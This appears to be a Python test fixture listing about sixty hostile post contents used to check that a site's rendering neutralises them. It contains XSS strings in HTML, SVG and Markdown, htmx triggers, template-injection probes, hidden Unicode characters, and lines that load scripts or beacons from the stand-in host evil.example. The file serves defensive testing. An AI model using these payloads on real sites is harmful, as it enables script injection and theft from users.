"""What strangers write into a post when they mean harm: sixty texts. Each tries to run a script, to reach evil.example, to hide,
or to look like a part of the page."""

CALL = "window.canary=1"
MARKUP = [
    f"<script>{CALL}</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    f"</script><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror="{CALL}">',
    f"'><svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data=javascript:{CALL}>",
    "<embed src=//evil.example/x.swf>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<input autofocus onfocus={CALL}>",
    f"<select onfocus={CALL} autofocus>",
    f"<marquee onstart={CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f'<a href="java&#09;script:{CALL}">x</a>',
    "<form action=//evil.example/><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import'//evil.example/x.css'</style>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<div style=background:url(//evil.example/x.png)>x</div>",
    "<template><img src=x></template>",
    f"</textarea><img src=x onerror={CALL}>",
    f"</title><script>{CALL}</script>",
    f"</template><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
]
HTMX = [
    '<b hx-get="/api/v1/me/" hx-trigger="load">x</b>',
    '<b data-hx-post="/review/decide/" hx-trigger="load">x</b>',
    f'<b hx-on::load="{CALL}">x</b>',
    f"<b hx-vals='js:{CALL}'>x</b>",
    '<b data-do="accept" class="btn">x</b>',
    '<div id="main" data-user="1">x</div>',
    '<template id="n-signin">x</template>',
]
MARKDOWN = [
    f"[x](javascript:{CALL})",
    f"[x](java\tscript:{CALL})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](vbscript:{CALL})",
    f"<javascript:{CALL}>",
    f"[x][1]\n\n[1]: javascript:{CALL}",
    "![t](http://evil.example/p.png?u=1)",
    f'[x](http://ok.example "onmouseover={CALL}")',
    f"[x](&#106;avascript:{CALL})",
    f"```html\n<script>{CALL}</script>\n```",
]
TEMPLATES = ["{{ settings.SECRET_KEY }}", "{% debug %}", "${7*7}", "#{7*7}", "%s%n"]
HIDING = ["通过\u202e绝不", "不\u200b要\u200d紧\ufeff", "\u2066孤立\u2069", "\U000e0041\U000e0042标签"]
PAYLOADS = [*MARKUP, *HTMX, *MARKDOWN, *TEMPLATES, *HIDING]
UNSEEN = "\u202e\u200b\ufeff\u2066\u2069\U000e0041\U000e0042"
# The ones for fields that hold a line: a name, a note, a file's name.
SHORT = [text for text in PAYLOADS if len(text) < 45 and "\n" not in text and "\t" not in text]
# Those that a browser is asked about: what its parser, not ours, might take for more than text.
IN_BROWSER = [*MARKUP[:14], MARKUP[19], MARKUP[30], MARKUP[31], HTMX[2], HTMX[3], *MARKDOWN[:3], MARKDOWN[6], MARKDOWN[8], HIDING[0]]


def everything(texts: list[str]) -> str:
    return "\n\n".join(texts)
